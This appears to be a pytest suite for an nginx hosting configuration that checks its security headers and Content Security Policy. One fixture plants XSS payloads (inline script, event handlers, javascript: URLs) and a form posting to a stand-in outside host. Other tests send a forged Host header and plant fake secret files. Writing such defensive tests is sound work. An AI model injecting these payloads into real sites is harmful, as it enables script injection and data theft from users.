"""The documented hosting set-up, run for real: hosting/nginx-practice-hub.conf in nginx serving the
site under test (this repository's, or PRACTICE_HUB_PROJECT's), whatever its content.

Also the defence in depth: a page with script and outside resources planted into the served site
(as if the build's own checks had been bypassed) runs no script and reaches nothing outside,
because of the shipped Content Security Policy alone.
"""

from __future__ import annotations

import json
import shutil
import sys
import urllib.error
import urllib.request
from pathlib import Path

import pytest
import yaml

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))  # tests/helpers.py
from nginx_server import nginx_serving  # noqa: E402

from helpers import PROJECT, run_build  # noqa: E402

#: Records every Content Security Policy violation in the page (init scripts are not subject to it).
RECORD_VIOLATIONS = """
window.__violations = [];
document.addEventListener("securitypolicyviolation", function (event) {
  window.__violations.push(event.violatedDirective + " " + event.blockedURI);
});
"""


@pytest.fixture(scope="module")
def hosted(tmp_path_factory):
    """(base URL, site folder, output of ``nginx -t``): a copy of the site under test (files are planted
    into its built site) served by the shipped server block."""
    project = tmp_path_factory.mktemp("hosted")
    shutil.copy(PROJECT / "mkdocs.yml", project / "mkdocs.yml")
    shutil.copytree(PROJECT / "docs", project / "docs")
    result = run_build(project)
    assert result.returncode == 0, result.stderr
    with nginx_serving(project / "site", tmp_path_factory.mktemp("nginx")) as (base, output):
        yield base, project / "site", output


def get(url: str):
    try:
        response = urllib.request.urlopen(
            urllib.request.Request(url, headers={"Accept-Encoding": "identity"})
        )
        return response.status, response.headers, response.read()
    except urllib.error.HTTPError as error:
        return error.code, error.headers, error.read()


def test_nginx_accepts_the_block_without_a_warning(hosted):
    _, _, output = hosted
    assert "syntax is ok" in output
    assert "warn" not in output.lower(), output
    assert "emerg" not in output.lower(), output


def test_pages_are_served_with_security_headers(hosted):
    base, _, _ = hosted
    status, headers, body = get(base)
    assert status == 200 and headers["Content-Type"].startswith("text/html")
    policy = headers["Content-Security-Policy"]
    assert "default-src 'self'" in policy
    script_src = next(part for part in policy.split(";") if part.strip().startswith("script-src"))
    assert "'unsafe-inline'" not in script_src and "'unsafe-eval'" not in script_src
    assert "object-src 'none'" in policy and "base-uri 'self'" in policy
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Cache-Control"] == "no-cache"
    site_name = yaml.safe_load((PROJECT / "mkdocs.yml").read_text().split("\ntheme:")[0])["site_name"]
    assert site_name.encode() in body


def test_built_pages_hold_no_inline_script(hosted):
    """What the policy refuses must not be needed: every <script> has a src, or is JSON data."""
    _, site, _ = hosted
    from bs4 import BeautifulSoup

    inline = []
    for html in sorted(site.rglob("*.html")):
        for script in BeautifulSoup(html.read_text(encoding="utf-8"), "html.parser").find_all("script"):
            if not script.get("src") and script.get("type") != "application/json":
                inline.append(html.relative_to(site).as_posix())
            for name in script.attrs:
                assert not name.startswith("on"), (html, name)
    assert inline == []


def test_folder_urls_and_the_404_page(hosted):
    base, _, _ = hosted
    assert get(base + "procedures/")[0] == 200
    status, _, body = get(base + "no-such-page/")
    assert status == 404 and b"md-content" in body  # the site's own 404 page, with its header
    assert "Content-Security-Policy" in get(base + "no-such-page/")[1]


def test_folder_redirects_never_name_the_requested_host(hosted):
    """A folder asked for without its slash is redirected with a relative Location, so a
    forged Host header is not written into it (absolute_redirect off)."""
    import http.client
    from urllib.parse import urlsplit

    base, _, _ = hosted
    address = urlsplit(base)
    connection = http.client.HTTPConnection(address.hostname, address.port, timeout=10)
    try:
        connection.request("GET", "/procedures", headers={"Host": "evil.example"})
        response = connection.getresponse()
        response.read()
    finally:
        connection.close()
    assert response.status == 301
    location = response.getheader("Location")
    assert location == "/procedures/", location
    assert "evil.example" not in location
    assert "Content-Security-Policy" in response.headers  # the redirect carries the headers too


def test_types_and_caching(hosted):
    base, site, _ = hosted
    asset = next(p for p in (site / "assets/javascripts").glob("bundle.*.min.js"))
    status, headers, _ = get(base + asset.relative_to(site).as_posix())
    assert status == 200 and "immutable" in headers["Cache-Control"]
    # files without a content hash in their name are never kept unchecked, /assets/ or not
    for unhashed in (
        "assets/javascripts/practice-hub-material.js",
        "assets/javascripts/workers/practice-hub-search.js",
    ):
        status, headers, _ = get(base + unhashed)
        assert status == 200 and headers["Cache-Control"] == "no-cache", unhashed
        assert headers["Content-Type"].startswith("application/javascript"), unhashed
    if (site / "training/calendar/all.ics").is_file():  # a site with courses
        assert get(base + "training/calendar/all.ics")[1]["Content-Type"].startswith("text/calendar")
    assert get(base + "content.json")[1]["Content-Type"].startswith("application/json")
    if (site / "procedures/amendments.xml").is_file():  # a site with procedures
        assert "xml" in get(base + "procedures/amendments.xml")[1]["Content-Type"]
    assert get(base + "review-schedule.csv")[0] == 200
    for wasm in site.rglob("*.wasm"):
        assert get(base + wasm.relative_to(site).as_posix())[1]["Content-Type"] == "application/wasm"


def test_pagefind_files_have_their_types(hosted):
    """Pagefind's files are gzip data that pagefind.js fetches and unpacks itself: octet-stream."""
    base, site, _ = hosted
    pagefind = site / "pagefind"
    samples = [
        pagefind / "wasm.en.pagefind",
        next(pagefind.glob("*.pf_meta")),
        next(pagefind.glob("index/*.pf_index")),
        next(pagefind.glob("fragment/*.pf_fragment")),
    ]
    for sample in samples:
        status, headers, body = get(base + sample.relative_to(site).as_posix())
        assert status == 200 and headers["Content-Type"] == "application/octet-stream", sample.name
        assert body == sample.read_bytes()
    assert get(base + "pagefind/pagefind.js")[1]["Content-Type"].startswith("application/javascript")
    assert get(base + "pagefind/pagefind-entry.json")[1]["Content-Type"].startswith("application/json")


def test_no_directory_listing(hosted):
    base, _, _ = hosted
    assert get(base + "tools/files/")[0] == 404


PLANTED = {
    ".git/config": "[core]\n\trepositoryformatversion = 0\n",
    ".git/HEAD": "ref: refs/heads/main\n",
    ".env": "SECRET=planted\n",
    ".htpasswd": "admin:planted\n",
    "procedures/.hidden": "planted\n",
    ".well-known-not/secret.txt": "planted\n",
    "mkdocs.yml": "site_name: planted\n",
    "data.yaml": "planted: true\n",
    "procedures/notes.md": "# planted\n",
    "README.MD": "# planted\n",
    "docs/_data/legislation.yml": "- planted\n",
}


def test_dotfiles_and_sources_in_the_root_are_refused(hosted):
    base, site, _ = hosted
    for name, text in PLANTED.items():
        path = site / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    served = {}
    for name in PLANTED:
        status, _, body = get(base + name)
        if status not in (403, 404) or b"planted" in body:
            served[name] = status
    assert served == {}
    assert get(base + ".git/")[0] == 404
    assert get(base + "procedures/")[0] == 200  # ordinary pages still served


def _page_kinds(site: Path) -> list[str]:
    """One page of each content type, the listings and the generated pages."""
    items = json.loads((site / "content.json").read_text(encoding="utf-8"))["items"]
    urls = [
        "",
        "procedures/",
        "standards/",
        "standards/golden-thread/",
        "audit/",
        "training/",
        "tools/",
        "induction/",
        "research/",
        "news/",
        "recruitment/",
        "links/",
        "glossary/",
        "procedures/amendments/",
        "editors/field-reference/",
        "no-such-page/",
    ]
    urls = [url for url in urls if url == "no-such-page/" or (site / url / "index.html").is_file()]
    seen_types = set()
    for item in sorted(items, key=lambda i: i["url"]):
        url = item["url"].split("#")[0]
        if item["type"] not in seen_types and (site / url / "index.html").is_file():
            seen_types.add(item["type"])
            urls.append(url)
    for pattern in ("tags/*/", "news/category/*/", "news/archive/*/*/"):
        built = sorted(site.glob(pattern + "index.html"))
        if built:
            urls.append(built[0].parent.relative_to(site).as_posix() + "/")
    return list(dict.fromkeys(urls))


#: How Playwright names the failure of a request the Content Security Policy blocked in Chromium.
BLOCKED_BY_POLICY = ("csp", "net::ERR_BLOCKED_BY_CSP")


def _guarded_context(browser, base):
    """A context that records CSP violations and every request that would leave the origin.

    The route sees each request the browser really sends to the network; those are aborted and
    listed. Chromium also announces requests that the policy then blocks before they leave (a
    ``request`` event followed by ``requestfailed`` whose failure is "csp"): such a
    request is listed only if it fails for another reason, or not at all.
    """
    context = browser.new_context(base_url=base)
    context.add_init_script(RECORD_VIOLATIONS)
    outside: list[str] = []
    local = (base, "data:", "blob:", "about:")

    def route(route):
        if route.request.url.startswith(local):
            route.continue_()
        else:
            outside.append(route.request.url)
            route.abort()

    def failed(request):
        if not request.url.startswith(local) and request.failure not in BLOCKED_BY_POLICY:
            outside.append(f"{request.url} ({request.failure})")

    def finished(request):
        if not request.url.startswith(local):
            outside.append(request.url)

    context.route("**/*", route)
    context.on("requestfailed", failed)
    context.on("requestfinished", finished)
    return context, outside


def test_the_site_works_under_the_security_policy(hosted, browser):
    base, site, _ = hosted
    context, outside = _guarded_context(browser, base)
    page = context.new_page()
    reports, errors, violations = [], [], {}
    page.on(
        "console",
        lambda message: reports.append(message.text) if "Content Security Policy" in message.text else None,
    )
    page.on("pageerror", lambda error: errors.append(str(error)))
    for url in _page_kinds(site):
        page.goto(url)
        page.wait_for_load_state("networkidle")
        found = page.evaluate("window.__violations")
        if found:
            violations[url] = found
    # Material's moved scripts ran: the scope helper exists, and the palette choice is restored
    page.goto("procedures/")
    assert page.evaluate("typeof __md_get === 'function' && __md_scope instanceof URL")
    scheme = page.locator("body").get_attribute("data-md-color-scheme")
    page.locator("label[for^='__palette_']:visible").first.click()
    page.wait_for_function(
        f"document.body.getAttribute('data-md-color-scheme') !== {scheme!r} || localStorage.length > 0"
    )
    chosen = page.evaluate("JSON.stringify(__md_get('__palette'))")
    assert chosen and chosen != "null"
    page.reload()
    page.wait_for_load_state("networkidle")
    assert page.evaluate("JSON.stringify(__md_get('__palette'))") == chosen
    assert page.locator("body").get_attribute("data-md-color-media") is not None  # set by the palette part
    # the review banner's script ran (it writes the page address into the print note)
    procedure = next(site.glob("procedures/*/index.html")).parent.relative_to(site).as_posix()
    page.goto(procedure + "/")
    page.wait_for_load_state("networkidle")
    assert page.locator("[data-ph-print-url]").first.text_content().startswith(base)
    # search: Pagefind's WebAssembly compiles under 'wasm-unsafe-eval'
    page.keyboard.press("/")
    page.locator("input.md-search__input").press_sequentially("strategy", delay=20)
    page.locator(".md-search-result__item").first.wait_for(state="visible")
    violations.update(
        {"(after search)": page.evaluate("window.__violations")}
        if page.evaluate("window.__violations.length")
        else {}
    )
    context.close()
    assert violations == {}
    assert reports == []
    assert errors == []
    assert outside == []


#: Raw HTML as an attacker would write it, planted into a served page as if every build check
#: had been bypassed. Each script sets a flag and opens a dialog; each resource is outside.
ATTACK = """
<script>window.__pwned = "inline script"; alert("inline script")</script>
<img src="no-such-image.png" onerror="window.__pwned = 'img onerror'; alert('img onerror')">
<svg onload="window.__pwned = 'svg onload'; alert('svg onload')"></svg>
<iframe src="javascript:parent.__pwned = 'iframe javascript'; alert('iframe')"></iframe>
<a id="attack-link" href="javascript:window.__pwned = 'javascript link'; alert('link')">a link</a>
<div id="attack-hover" onmouseover="window.__pwned = 'onmouseover'">hover</div>
<img src="https://outside.example/pixel.png" alt="">
<img src="//outside.example/protocol-relative.png" alt="">
<script src="https://outside.example/script.js"></script>
<link rel="stylesheet" href="https://outside.example/style.css">
<style>@import url("https://outside.example/import.css");</style>
<div style="background-image: url('https://outside.example/background.png')">styled</div>
<iframe src="https://outside.example/frame.html"></iframe>
<object data="https://outside.example/object.swf"></object>
<embed src="https://outside.example/embed.swf">
<video src="https://outside.example/video.mp4" autoplay muted></video>
<audio src="https://outside.example/audio.mp3" autoplay></audio>
<form id="attack-form" action="https://outside.example/collect" method="post">
  <input name="q" value="x"><button id="attack-submit">Send</button>
</form>
<base href="https://outside.example/">
"""


def test_planted_script_and_outside_resources_are_stopped_by_the_policy(hosted, browser):
    base, site, _ = hosted
    source = next(site.glob("procedures/*/index.html"))
    planted = source.parent.with_name("planted-attack") / "index.html"
    planted.parent.mkdir(exist_ok=True)
    article = '<article class="md-content__inner md-typeset">'
    html = source.read_text(encoding="utf-8")
    assert article in html
    planted.write_text(html.replace(article, article + ATTACK, 1), encoding="utf-8")

    context, outside = _guarded_context(browser, base)
    page = context.new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.goto(planted.parent.relative_to(site).as_posix() + "/")
    page.wait_for_load_state("networkidle")
    page.locator("#attack-hover").hover()
    page.locator("#attack-link").click()
    page.locator("#attack-submit").click(no_wait_after=True)  # a blocked submission never "finishes"
    page.wait_for_load_state("networkidle")
    assert page.url.startswith(base)  # the outside form was not sent
    # the refused submission is reported a moment after the click (late on a busy machine)
    page.wait_for_function(
        "(window.__violations || []).some(v => v.startsWith('form-action'))", timeout=10_000
    )
    pwned = page.evaluate("window.__pwned")
    violations = page.evaluate("window.__violations")
    site_ran = page.evaluate("typeof __md_get === 'function'")
    context.close()
    assert pwned is None
    assert dialogs == []
    assert outside == [], (outside, violations)
    assert site_ran  # the site's own scripts still run on the page
    # the policy, not luck, stopped them: each kind was refused and reported
    directives = {violation.split()[0] for violation in violations}
    assert {"script-src-elem", "script-src-attr", "img-src", "style-src-elem", "form-action"} <= directives, (
        violations
    )
